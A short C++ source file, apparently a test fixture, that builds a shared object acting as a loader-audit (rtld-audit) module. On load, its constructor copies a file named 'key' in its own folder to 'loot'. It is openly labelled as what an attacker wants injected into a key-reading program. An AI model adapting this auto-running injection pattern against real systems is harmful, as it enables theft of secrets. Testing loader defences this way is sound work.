// What an attacker wants loaded into a program that can read a key: a shared object that, as soon
// as it is, copies the file `key` of its own folder to the file `loot`.

#include <dlfcn.h>

#include <filesystem>
#include <string>

namespace {

[[gnu::constructor]] void copyKey() {
    Dl_info info{};
    ::dladdr(reinterpret_cast<void*>(&copyKey), &info);
    const std::filesystem::path folder = std::filesystem::path(info.dli_fname).parent_path();
    std::error_code ignored;
    std::filesystem::copy_file(folder / "key", folder / "loot", ignored);
}

}  // namespace

// An auditor of the loader must have it (rtld-audit(7)).
extern "C" unsigned la_version(unsigned version) {
    return version;
}
